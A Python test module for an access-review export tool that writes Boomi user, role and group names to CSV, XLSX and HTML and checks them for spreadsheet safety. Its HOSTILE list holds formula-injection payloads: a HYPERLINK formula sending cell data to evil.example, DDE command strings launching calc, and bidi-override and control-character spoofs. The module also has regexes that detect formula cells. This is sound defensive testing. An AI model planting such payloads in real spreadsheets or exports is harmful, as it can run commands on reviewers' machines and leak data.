"""Hostile names everywhere the review writes them (issue 11, item 2).

Names, emails, role and group names come from Boomi, where anyone who can edit a user chooses
them. A campaign over such an account must be written with no cell a spreadsheet would
evaluate, in any locale, one line per CSV row, never fail to write, show invisible characters,
and read back exactly.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import unicodedata
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airflow_provider_boomi.dataset import SnapshotStore, SnapshotWriter
from airflow_provider_boomi.review import (
    Campaign,
    build_campaign,
    decisions_to_changes,
    read_decisions,
    read_workbook,
    render_report,
    write_campaign,
    write_csv,
    write_reviewer_xlsx,
    write_xlsx,
)
from airflow_provider_boomi.review.cells import (
    neutralise_csv_cell,
    restore_csv_cell,
    visible_text,
    xlsx_restore,
    xlsx_text,
)
from airflow_provider_boomi.review.workbook import DISPLAY_COLUMNS
from tests.unit import test_warehouse_snapshots as fx

#: Values an attacker (or an unlucky import) puts into Boomi names.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'Robert "Bob" Tables',
    'said "ok", then; left',
    "Smith;=1+1",
    "Smith,=1+1",
    'x;"=1+1',
    "a; -1",
    "first\n=1+1",
    "line\r\nbreak",
    "vertical\x0btab",
    "esc\x1b[31mred",
    "nul\x00byte",
    "form\x0cfeed",
    "nel\x85line\u2028sep",
    "admin\u202egnp.exe",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\u2066isolate\u2069",
    "'already quoted",
    "back\\slash \\n not a newline",
    "_x0041_ is not A",
    "ünïcødé 漢字 😀",
    "  padded  ",
]
#: A cell a spreadsheet evaluates: it starts with one of these ...
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
#: ... or holds one after a separator or line break, where a spreadsheet splitting with another
#: delimiter starts a cell.
FORMULA_INSIDE = re.compile(r"[,;\t\n\r][=+\-@\t\r]")


def _hostile_store(root: Path) -> tuple[SnapshotStore, dict[str, str]]:
    """A snapshot whose users, roles and groups are named with every HOSTILE value; a few user
    ids are hostile too (ids must stay exact)."""
    users = []
    global_grants = []
    group_grants = []
    roles = [dict(r) for r in fx.ROLES]
    role_names = {}
    for index, role in enumerate(roles):
        role["name"] = HOSTILE[index]
        role_names[role["role_id"]] = role["name"]
    group_id = "grp;=1+1\x1b"
    group_name = "=cmd|' /C calc'!A0\u202e"
    ids = [f"user{index}@x.com" for index in range(len(HOSTILE))]
    ids[:4] = ["eve,=1+1@x.com", "mallory;-2@x.com", "tab\t@x.com", "esc\x1b\u202e@x.com"]
    for index, (user_id, value) in enumerate(zip(ids, HOSTILE, strict=True)):
        users.append(
            {
                "user_id": user_id,
                "email": HOSTILE[-index - 1] + "@x.com",
                "first_name": value,
                "last_name": HOSTILE[(index + 5) % len(HOSTILE)],
                "global_role_count": 1,
                "group_role_count": 1,
                "is_privileged": True,
                "is_account_member": True,
            }
        )
        role_id = roles[index % len(roles)]["role_id"]
        global_grants.append(
            {
                "grant_id": fx.global_grant_id(user_id, role_id),
                "boomi_id": f"aur-{index}",
                "user_id": user_id,
                "role_id": role_id,
                "role_name": role_names[role_id],
            }
        )
        group_grants.append(
            {
                "grant_id": fx.group_grant_id(user_id, group_id, fx.ADMIN),
                "boomi_id": f"agur-{index}",
                "user_id": user_id,
                "account_group_id": group_id,
                "account_group_name": group_name,
                "role_id": fx.ADMIN,
                "role_name": role_names[fx.ADMIN],
            }
        )
    writer = SnapshotWriter(root, fx.ACCOUNT, sync_id=fx.SYNC_IDS[0], synced_at=fx.TIMES[0])
    writer.write_table("users", users)
    writer.write_table("roles", roles)
    writer.write_table(
        "account_groups",
        [{**fx.GROUPS[0], "account_group_id": group_id, "name": group_name}],
    )
    writer.write_table("user_role_grants", global_grants)
    writer.write_table("group_role_grants", group_grants)
    writer.commit(
        api_stats={},
        warnings=[],
        account_groups_available=True,
        resources=["users", "roles", "account_groups", "user_role_grants", "group_role_grants"],
    )
    return SnapshotStore(root), {u["user_id"]: u["first_name"] for u in users}


@pytest.fixture(scope="module")
def hostile_campaign(tmp_path_factory: pytest.TempPathFactory) -> Campaign:
    store, _ = _hostile_store(tmp_path_factory.mktemp("hostile-store"))
    campaign = build_campaign(store, fx.ACCOUNT, campaign_id="uar-hostile", default_reviewer="=rev@x.com")
    assert len(campaign.items) == 2 * len(HOSTILE)
    return campaign


def _assert_no_formula_cell(text: str) -> None:
    for delimiter in (",", ";"):
        for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in record:
                assert not FORMULA_START.search(cell), (delimiter, cell)
                assert not FORMULA_INSIDE.search(cell), (delimiter, cell)


def test_hostile_campaign_csv_has_no_formula_cell_in_any_locale_and_one_line_per_row(
    hostile_campaign: Campaign, tmp_path: Path
) -> None:
    files = write_campaign(hostile_campaign, tmp_path)
    text = files.workbook_csv.read_text(encoding="utf-8-sig")
    _assert_no_formula_cell(text)
    # One line per row, whatever counts as a line break (str.splitlines knows them all).
    assert len(text.splitlines()) == len(hostile_campaign.items) + 1


def test_hostile_campaign_xlsx_is_written_with_text_cells_only(
    hostile_campaign: Campaign, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    files = write_campaign(hostile_campaign, tmp_path)  # used to raise IllegalCharacterError
    workbook = load_workbook(files.workbook_xlsx)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    sheet = workbook["review"]
    header = [c.value for c in sheet[1]]
    names = {
        row[header.index("item_id")].value: row[header.index("name")].value for row in sheet.iter_rows(2)
    }
    for item in hostile_campaign.items:
        # Display columns: nothing invisible, no control character (shown, not hidden); the
        # cell holds it in XLSX's own escaping (what Excel shows is visible_text(name)).
        assert names[xlsx_text(item.item_id)] == xlsx_text(visible_text(item.name))


def test_hostile_campaign_reads_back_exactly_from_csv_and_xlsx(
    hostile_campaign: Campaign, tmp_path: Path
) -> None:
    files = write_campaign(hostile_campaign, tmp_path)
    for path in (files.workbook_csv, files.workbook_xlsx):
        table = read_workbook(path)
        assert len(table.rows) == len(hostile_campaign.items)
        for row, item in zip(table.rows, hostile_campaign.items, strict=True):
            assert row.values["item_id"] == item.item_id
            assert row.values["user_id"] == item.user_id
            assert row.values["account_group_id"] == (item.account_group_id or "")
            assert row.values["campaign_id"] == "uar-hostile"
            assert row.values["name"] == visible_text(item.name)
            assert row.values["role"] == visible_text(item.role_label)


def _fill_csv(path: Path, comments: dict[str, str]) -> None:
    """Decide every row as a spreadsheet would save it: the cells written are kept as they are
    (neutralised), the comments typed are written in the same CSV form."""
    text = path.read_text(encoding="utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline="")))
    header = records[0]
    for record in records[1:]:
        item_id = restore_csv_cell(record[header.index("item_id")])
        comment = comments.get(item_id)
        record[header.index("decision")] = "keep" if comment is None else "revoke"
        record[header.index("comment")] = neutralise_csv_cell(comment or "")
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(records)


def _fill_xlsx(path: Path, comments: dict[str, str]) -> None:
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    # The all-items workbook's sheet is "review", a reviewer workbook's "Review".
    sheet = workbook["review"] if "review" in workbook.sheetnames else workbook["Review"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(2):
        item_id = xlsx_restore(row[header.index("item_id")].value or "")
        comment = comments.get(item_id)
        row[header.index("decision")].value = "keep" if comment is None else "revoke"
        cell = row[header.index("comment")]
        cell.value = xlsx_text(comment or "")
        cell.data_type = "s"  # typed text, as Excel stores it
    workbook.save(path)


def test_hostile_comments_become_the_exact_reason(hostile_campaign: Campaign, tmp_path: Path) -> None:
    items = hostile_campaign.items
    comments = {items[i].item_id: HOSTILE[i].strip() or "x" for i in range(len(HOSTILE))}
    files = write_campaign(hostile_campaign, tmp_path)
    _fill_csv(files.workbook_csv, comments)
    _fill_xlsx(files.workbook_xlsx, comments)
    for path in (files.workbook_csv, files.workbook_xlsx):
        decisions = read_decisions(hostile_campaign, path)
        assert {d.item.item_id: d.comment for d in decisions.revoked} == comments
        changes = decisions_to_changes(decisions)
        assert {c["reason"] for c in changes} == {
            f"access review uar-hostile: {c}" for c in comments.values()
        }


def test_report_shows_invisible_characters(hostile_campaign: Campaign) -> None:
    html = render_report(hostile_campaign)
    for hidden in ("\u202e", "\u200b", "\u2066", "\ufeff", "\x1b", "\x00", "\x0b"):
        assert hidden not in html
    assert "&lt;U+202E&gt;" in html and "&lt;U+200B&gt;" in html and "␛" in html
    assert "<script" not in html.lower()


def test_cell_functions_on_known_values() -> None:
    assert neutralise_csv_cell("Alice") == "Alice"
    assert neutralise_csv_cell("C:\\temp") == "C:\\temp"  # unmarked cells are never unescaped
    assert neutralise_csv_cell("=1+1") == "'=1+1"
    assert neutralise_csv_cell("Smith;=1+1") == "'Smith;'=1+1"
    assert neutralise_csv_cell("a\nb") == "'a\\nb"
    assert neutralise_csv_cell("'x") == "''x"
    assert restore_csv_cell("'a,'=1") == "a,=1"
    assert xlsx_text("esc\x1b") == "esc_x001B_" and xlsx_text("_x0041_") == "_x005F_x0041_"
    assert visible_text("a\u202eb\x1bc\nd") == "a<U+202E>b␛c␊d"


# Text that hits every rule: formula starts, separators, quotes, escapes and XLSX's own escape,
# control and invisible characters; mixed with arbitrary unicode.
_RISKY = [
    *"=+-@\t\r\n\",;' \\_x0Ab\x00\x0b\x1b\x7f\x85\u2028\u202e\u200b\ufeff\ufffe",
    "_x0041_",
    "\r\n",
    "\\n",
]
_TEXT = st.lists(
    st.one_of(st.sampled_from(_RISKY), st.characters(), st.sampled_from(HOSTILE)), max_size=12
).map("".join)


@given(value=_TEXT)
def test_csv_cell_round_trip_and_safety(value: str) -> None:
    cell = neutralise_csv_cell(value)
    assert restore_csv_cell(cell) == value
    assert not FORMULA_START.search(cell) and not FORMULA_INSIDE.search(cell)
    assert len(cell.splitlines()) <= 1
    assert xlsx_restore(xlsx_text(value)) == value
    hidden = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert not [c for c in visible_text(value) if unicodedata.category(c) in hidden]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    ids=st.lists(_TEXT, min_size=1, max_size=3, unique=True), names=st.lists(_TEXT, min_size=3, max_size=3)
)
def test_workbook_round_trip_property(ids: list[str], names: list[str]) -> None:
    """What write_csv / write_xlsx write, read_workbook reads back: ids and comments exactly,
    display columns as shown (visible_text)."""
    base = _base_campaign()
    template = base.items[0]
    items = tuple(
        replace(
            template,
            item_id=item_id,
            user_id=item_id,
            name=names[0],
            email=names[1],
            role_name=names[2],
            account_group_id=item_id,
            account_group_name=names[1],
            reviewer=names[2],
            routed_from=names[0],
        )
        for item_id in ids
    )
    campaign = replace(base, items=items)
    comments = {item_id: names[index % 3] + item_id for index, item_id in enumerate(ids)}
    with tempfile.TemporaryDirectory() as tmp:
        csv_path, xlsx_path = Path(tmp) / "w.csv", Path(tmp) / "w.xlsx"
        reviewer_path = Path(tmp) / "reviewer.xlsx"
        write_csv(campaign, csv_path)
        write_xlsx(campaign, xlsx_path)
        # Every item has the same (hostile) reviewer: their workbook holds them all.
        write_reviewer_xlsx(campaign, names[2], reviewer_path)
        _assert_no_formula_cell(csv_path.read_text(encoding="utf-8-sig"))
        _fill_csv(csv_path, comments)
        _fill_xlsx(xlsx_path, comments)
        _fill_xlsx(reviewer_path, comments)
        for path in (csv_path, xlsx_path, reviewer_path):
            rows = read_workbook(path).rows
            assert len(rows) == len(items)
            for row, item in zip(rows, items, strict=True):
                expected: dict[str, Any] = {
                    "item_id": item.item_id,
                    "user_id": item.user_id,
                    "account_group_id": item.account_group_id,
                    "comment": comments[item.item_id],
                    "campaign_id": campaign.campaign_id,
                    "name": visible_text(item.name),
                    "email": visible_text(item.email or ""),
                    "role": visible_text(item.role_label),
                    "group": visible_text(item.group_label),
                    "reviewer": visible_text(item.reviewer or ""),
                    "routed_from": visible_text(item.routed_from or ""),
                    "findings": visible_text("; ".join(item.findings)),
                }
                assert {k: row.values[k] for k in expected} == expected
                assert set(expected) >= DISPLAY_COLUMNS


_BASE: list[Campaign] = []


def _base_campaign() -> Campaign:
    if not _BASE:
        with tempfile.TemporaryDirectory() as tmp:
            _BASE.append(build_campaign(fx.build_store(Path(tmp), 1), fx.ACCOUNT, campaign_id="uar-prop"))
    return _BASE[0]
